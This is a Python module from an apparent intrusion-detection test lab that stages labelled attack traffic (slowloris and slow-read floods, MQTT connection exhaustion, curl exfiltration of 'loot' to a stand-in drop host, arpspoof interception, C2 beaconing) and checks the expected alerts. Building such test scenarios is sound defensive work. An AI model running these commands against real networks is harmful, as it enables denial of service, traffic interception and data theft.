"""What takes its time: slow requests, data carried away, lies about addresses, calls home."""

import base64
import random
import socket
import struct
import subprocess
import time

from . import services
from .behaviour import Alert, Claim, behaviour
from .habits import Household
from .lab import ATTACKER, GATEWAY, HUB, LAPTOP, NEIGHBOURS, SENSOR, SERVER, build, play
from .story import beacon, in_device

INNOCENT = (*NEIGHBOURS, SERVER)
DROP, COMMAND_SERVER = "198.51.100.99", "203.0.113.66"
SLOW = {  # name: (slowhttptest options, what it does)
    "slow-headers": (("-H", "-i", "8"), "sends its request headers line by line (slowloris)"),
    "slow-post": (("-B", "-i", "8", "-s", "8192"), "sends its request bodies a few bytes at a time"),
    "slow-read": (("-X", "-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "1"), "reads the answers a few bytes at a time"),
}


def register_slow(name, options, what):
    @behaviour(name, "attack", f"slowhttptest keeps 200 connections to one web server open for a minute and {what}.",
               expected=(Alert("slow-requests", ATTACKER, (SERVER,)),), never=INNOCENT, tools=("slowhttptest", "nginx-light"), snaplen=160,
               claims=(Claim("connections", f"ip.src=={ATTACKER} && tcp.dstport==80 && tcp.flags==0x2", 200, None, "tcp.srcport"),))
    def slow(net, capture):
        build(net)
        services.web(net, "server", {"large.bin": 900_000}, extra="client_header_timeout 90s; client_body_timeout 90s;")
        play(net, capture, lambda: net.attack("attacker", "slowhttptest", *options, "-c", 200, "-r", 50, "-l", 60, "-p", 3, "-u",
                                              f"http://{SERVER}/{'large.bin' if name == 'slow-read' else 'upload'}", timeout=100))


for slow_name, slow_details in SLOW.items():
    register_slow(slow_name, *slow_details)


@behaviour("slow-mqtt", "attack", "One device opens 180 MQTT connections to the broker, each with an accepted CONNECT and a keepalive of 90 s, "
           "subscribes to nothing, publishes nothing and sends a PINGREQ only just before it would be dropped; two of them never finish "
           "their CONNECT packet (the SlowITe idea: the broker's connections are used up).",
           expected=(Alert("slow-requests", ATTACKER, (SERVER,)),), never=INNOCENT, tools=("mosquitto",),
           note="The connections are opened by a script (recording/attacks_quiet.py) against the real broker.",
           claims=(Claim("MQTT connections", f"ip.src=={ATTACKER} && tcp.dstport==1883 && tcp.flags==0x2", 180, 180),
                   Claim("accepted CONNECTs", f"mqtt.msgtype==2 && ip.dst=={ATTACKER}", 170),
                   Claim("PINGREQs of the attacker", f"mqtt.msgtype==12 && ip.src=={ATTACKER}", 150)))
def slow_mqtt(net, capture):
    build(net)
    services.mqtt_broker(net, "server", {"slow": "slow"})

    def connect_packet(number):
        words = (f"slow{number}", "slow", "slow")
        body = b"\x00\x04MQTT\x04\xc2" + struct.pack("!H", 90) + b"".join(struct.pack("!H", len(w)) + w.encode() for w in words)
        return b"\x10" + bytes((len(body),)) + body

    def hold():
        chance, held = random.Random("slow-mqtt"), []
        for number in range(180):
            connection = socket.create_connection((SERVER, 1883), timeout=5)
            packet = connect_packet(number)
            connection.sendall(packet if number % 90 != 89 else packet[:9])
            held.append(connection)
            time.sleep(chance.uniform(0.1, 0.25))
        for _ in range(2):
            time.sleep(60)
            for number, connection in enumerate(held):
                if number % 90 != 89:
                    try:
                        connection.sendall(b"\xc0\x00")
                    except OSError:
                        continue
                time.sleep(0.02)
        for connection in held:
            connection.close()

    net.show("attacker", f"(180 half-idle MQTT connections to {SERVER}:1883 for 160 s)")
    play(net, capture, lambda: in_device(net, "attacker", hold))


def loot(net, megabytes):
    path = net.state / "loot.tar"
    with open(path, "wb") as out:
        chance = random.Random("loot")
        for _ in range(megabytes):
            out.write(chance.randbytes(1_000_000))
    return path


def carried(least):
    return Claim("full segments sent out", f"ip.src=={SERVER} && ip.dst=={DROP} && ip.len>1400", least)


@behaviour("exfiltration-http", "attack", "The server of the home puts 120 MB to an address on the internet it has never talked to, by one HTTPS "
           "upload at 3 MB/s; before that it only answers a neighbour's requests.",
           expected=(Alert("exfiltration", SERVER, (DROP,)),), never=NEIGHBOURS, tools=("curl", "nginx-light"), snaplen=66, claims=(carried(80_000),))
def exfiltration_http(net, capture):
    build(net)
    services.small_web(net, "server")
    play(net, capture, lambda: net.attack("server", "curl", "-sk", "--limit-rate", "3M", "-o", "/dev/null", "-H", "Expect:", "-T", loot(net, 120),
                                          f"https://{DROP}/upload/loot", timeout=120))


@behaviour("exfiltration-pieces", "attack", "The server of the home carries 22 MB out in forty-five uploads of half a megabyte, one every three "
           "seconds or so: less than an evening's photographs, so without a history of the server nobody can be sure.",
           tolerated=(Alert("exfiltration", SERVER, (DROP,)), Alert("beacon", SERVER, (DROP,))), never=NEIGHBOURS,
           tools=("curl", "nginx-light"), snaplen=66,
           claims=(carried(14_000), Claim("connections", f"ip.src=={SERVER} && ip.dst=={DROP} && tcp.flags==0x2", 45, 45)))
def exfiltration_pieces(net, capture):
    build(net)
    pieces = [loot(net, 1)]
    pieces[0].write_bytes(pieces[0].read_bytes()[:500_000])
    chance = random.Random("pieces")

    def work():
        net.show("server", f"(forty-five times, 2 to 4 s apart) curl -sk -T piece https://{DROP}/upload/piece")
        for _ in range(45):
            net.run("server", "curl", "-sk", "-o", "/dev/null", "-H", "Expect:", "-T", pieces[0], f"https://{DROP}/upload/piece")
            time.sleep(chance.uniform(2, 4))

    play(net, capture, work)


def forged(claimed, least):
    return Claim(f"ARP replies of the attacker that claim {claimed}",
                 f"arp.opcode==2 && arp.src.proto_ipv4=={claimed} && eth.src==a0:99:9b:3c:66:66", least)


@behaviour("arp-spoofing", "attack", "arpspoof puts the attacker between a laptop and the router, both ways, for 70 s, and passes their packets "
           "on; at the end it restores the truth.",
           expected=(Alert("arp-spoofing", ATTACKER, (LAPTOP, GATEWAY)),), never=(HUB, SENSOR, SERVER), tools=("dsniff",),
           claims=(forged(GATEWAY, 30), forged(LAPTOP, 30),
                   Claim("the laptop's packets that go through the attacker", f"ip.src=={LAPTOP} && eth.dst==a0:99:9b:3c:66:66", 50)))
def arp_spoofing(net, capture):
    build(net)
    net.run("attacker", "sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0")
    play(net, capture, lambda: net.attack("attacker", "timeout", "-s", "INT", "70", "arpspoof", "-i", "eth0", "-t", LAPTOP, "-r", GATEWAY,
                                          timeout=90), before=20, after=15)


@behaviour("arp-spoofing-one-way", "attack", "arpspoof tells one sensor that the hub's address is the attacker's, and drops what arrives: the "
           "sensor's readings are lost.",
           expected=(Alert("arp-spoofing", ATTACKER, (SENSOR, HUB)),), never=(LAPTOP, GATEWAY, SERVER), tools=("dsniff",),
           claims=(forged(HUB, 20),))
def arp_spoofing_one_way(net, capture):
    build(net)
    play(net, capture, lambda: net.attack("attacker", "timeout", "-s", "INT", "50", "arpspoof", "-i", "eth0", "-t", SENSOR, HUB, timeout=90),
         before=20, after=10)


def register_beacon(percent):
    @behaviour(f"beacon-jitter-{percent}", "attack", f"A device asks a server on the internet for orders every ten seconds, with {percent} % jitter, "
               "for eight minutes, by short HTTP requests.",
               expected=(Alert("beacon", ATTACKER, (COMMAND_SERVER,)),), never=INNOCENT, tools=("curl", "nginx-light"),
               claims=(Claim("contacts", f"ip.src=={ATTACKER} && ip.dst=={COMMAND_SERVER} && tcp.flags==0x2", 45, 55),))
    def calls_home(net, capture):
        build(net)
        tcpdump_seconds = 490
        play(net, capture, lambda: beacon(net, Household(net, tcpdump_seconds, "b"), "attacker", f"http://{COMMAND_SERVER}/gate", 10,
                                          percent / 100))


for jitter in (0, 20, 50):
    register_beacon(jitter)


@behaviour("beacon-long-connection", "attack", "A device keeps one TCP connection to a server on the internet open for eight minutes; every ten "
           "seconds (± 10 %) 120 to 200 bytes go out and 40 come back.",
           expected=(Alert("beacon", ATTACKER, (COMMAND_SERVER,)),), never=INNOCENT, tools=("socat",),
           claims=(Claim("connections", f"ip.src=={ATTACKER} && ip.dst=={COMMAND_SERVER} && tcp.flags==0x2", 1, 1),
                   Claim("messages out", f"ip.src=={ATTACKER} && ip.dst=={COMMAND_SERVER} && tcp.len>100", 45)))
def beacon_long_connection(net, capture):
    build(net)
    net.start("internet", "socat", "TCP-LISTEN:4444,fork,reuseaddr", "SYSTEM:while read line; do head -c 40 /dev/urandom; done", log="c2")

    def work():
        chance = random.Random("long")
        net.show("attacker", f"socat - TCP:{COMMAND_SERVER}:4444 (one line of base64 every ten seconds)")
        client = net.start("attacker", "socat", "-", f"TCP:{COMMAND_SERVER}:4444", stdin=subprocess.PIPE, log="bot")
        for _ in range(49):
            client.stdin.write(base64.b64encode(chance.randbytes(chance.randrange(90, 148))) + b"\n")
            client.stdin.flush()
            time.sleep(10 * chance.uniform(0.9, 1.1))
        client.stdin.close()

    play(net, capture, work)
